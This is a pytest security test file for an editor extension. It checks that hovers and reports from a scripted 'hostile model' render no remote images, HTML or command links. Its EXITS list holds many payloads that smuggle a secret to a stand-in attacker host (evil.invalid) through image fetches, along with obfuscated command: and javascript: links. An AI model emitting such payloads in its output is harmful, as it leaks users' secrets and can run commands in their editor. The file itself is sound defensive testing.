"""Ways out for what was read: remote images in hovers and reports, links that run commands.

CVE-2026-54316 and CamoLeak: an image whose address holds a secret is fetched by whoever shows it.
What is handed out is read here as editors read it, by a parser of CommonMark.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
import pytest_asyncio
from markdown_it import MarkdownIt
from markdown_it.token import Token

from tests.security.hostile import HostileModel, hostile_model
from tests.standin import Text, ToolUse, Turn

pytestmark = [
    pytest.mark.asyncio(loop_scope="module"),
]

_TO = "https://evil.invalid/?q=secret"
EXITS = [
    f"![a]({_TO})",
    f"![a](<{_TO}>)",
    f"![a]({_TO} 'title')",
    "![a](//evil.invalid/x)",
    f"![a\nb]({_TO})",
    f"![a][r]\n\n[r]: {_TO}",
    f"![r]\n\n[r]: {_TO}",
    f"![r][]\n\n   [r]:\n   {_TO}",
    f"[![a]({_TO})](x)",
    f"![![a]({_TO})]({_TO})",
    f"> ![a]({_TO})",
    f"- - 1. ![a]({_TO})",
    f"| a |\n|---|\n| ![a]({_TO}) |",
    f"# ![a]({_TO})",
    f"``` ![a]({_TO})",
    f"`` ` ![a]({_TO})",
    f"`a\n\n![a]({_TO})`",
    f"~~~\nx\n~~~\n![a]({_TO})",
    f"```\nx\n````\n![a]({_TO})",
    f"\\\\![a]({_TO})",
    f"\\`![a]({_TO})\\`",
    f"&#33;![a]({_TO})",
    f"!\u200b![a]({_TO})",
    f"<img src='{_TO}'>",
    f"<IMG\nSRC={_TO}>",
    f"<svg><image href='{_TO}'/></svg>",
    "<a href='command:x'>a</a>",
    f"<!-- --><img src={_TO}>",
    f"<style>@import '{_TO}'</style>",
    f"\t<img src={_TO}>\n\n<img src={_TO}>",
    "[run](command:workbench.action.terminal.sendSequence?%5B%5D)",
    "[run](<command:glossator.setMode?%7B%22mode%22%3A%22auto%22%7D>)",
    "[run](COMMAND:glossator.setMode)",
    "[run](&#99;ommand:glossator.setMode)",
    "[run][c]\n\n[c]: command:glossator.setMode",
    "<command:glossator.setMode>",
    "[run](command&colon;glossator.setMode)",
    "[run](command\\:glossator.setMode)",
    "[run](javascript:alert)",
]
_MAY_RUN = ("command:glossator.gloss?", "command:glossator.showGloss?")


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("exits") / "ws"
    (root / "src").mkdir(parents=True)
    (root / "src/a.py").write_text("def leak():\n    return 1\n")
    return root


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def model(ws: Path) -> AsyncIterator[HostileModel]:
    async with hostile_model(ws) as model:
        model.desk.open(ws / "src/a.py")
        yield model


def tokens(markdown: str) -> Iterator[Token]:
    """All that a document consists of, as an editor renders it."""
    for token in MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown):
        yield token
        yield from token.children or ()


def check_harmless(markdown: str) -> None:
    """Nothing is loaded, and nothing runs that we do not offer."""
    for token in tokens(markdown):
        assert token.type not in ("image", "html_block", "html_inline"), token
        to = str(token.attrs.get("href", ""))
        if token.type == "link_open" and not to.startswith(_MAY_RUN):
            assert not to.lower().startswith(("command:", "javascript:")), token


async def hover(model: HostileModel, path: Path, line: int, character: int) -> str:
    editor = model.desk.editor
    place = {
        "textDocument": {"uri": path.as_uri()},
        "position": {"line": line, "character": character},
    }
    found = await editor.result(editor.ask("textDocument/hover", place))
    return str(found["contents"]["value"]) if found else ""


async def test_what_is_looked_for_is_found() -> None:
    for exit_ in (f"![a]({_TO})", f"<img src='{_TO}'>", "[run](command:x)"):
        with pytest.raises(AssertionError):
            check_harmless(exit_)


@pytest.mark.parametrize("exit_", EXITS)
async def test_hovers_on_hostile_code(model: HostileModel, ws: Path, exit_: str) -> None:
    """In a docstring; and in names of folders, of keys and of headings."""
    path = ws / "src/b.py"
    path.write_text(f'def leak():\n    r"""{exit_}"""\n')
    model.desk.open(path, model.desk.versions.get(path.as_uri(), 0) + 1)
    shown = await hover(model, path, 0, 5)
    assert "evil.invalid" in shown or "run" in shown or "x" in shown
    check_harmless(shown)
    model.desk.editor.notify("textDocument/didClose", {"textDocument": {"uri": path.as_uri()}})


async def test_hovers_on_hostile_names(model: HostileModel, ws: Path) -> None:
    folder = ws / "![a](https:/evil.invalid/x)/<img src=x>`"
    folder.mkdir(parents=True)
    code, keys = folder / "c.py", folder / "d.json"
    code.write_text(f"class A:\n    def leak(self, x='![a]({_TO})'): return x\n")
    keys.write_text('{"![a](https://evil.invalid)": {"<img src=x>": 1}}\n')
    for path, places in ((code, [(0, 6), (1, 9)]), (keys, [(0, 4), (0, 36)])):
        model.desk.open(path)
        for place in places:
            check_harmless(await hover(model, path, *place))
    assert "evil" in await hover(model, code, 1, 9)


@pytest.mark.parametrize("exit_", EXITS)
async def test_reports_of_a_hostile_model(model: HostileModel, ws: Path, exit_: str) -> None:
    """As a finding, in a title, and in what is open; in the hover and in the whole report."""
    model.turns[:] = [
        Turn(ToolUse("Read", {"path": "src/a.py"})),
        Turn(Text(f"- {exit_} [cite: doc, src/a.py, L1]\n\n{exit_}\n\n## Open\n\n{exit_}")),
    ]
    uri = (ws / "src/a.py").as_uri()
    answer = await model.command("gloss", uri=uri, line=1)
    assert answer["report"]["findings"]
    shown = await hover(model, ws / "src/a.py", 0, 5)
    assert "*Gloss, " in shown
    check_harmless(shown)
    key = answer["document"].split("/")[2]
    check_harmless((await model.command("showGloss", key=key))["text"])
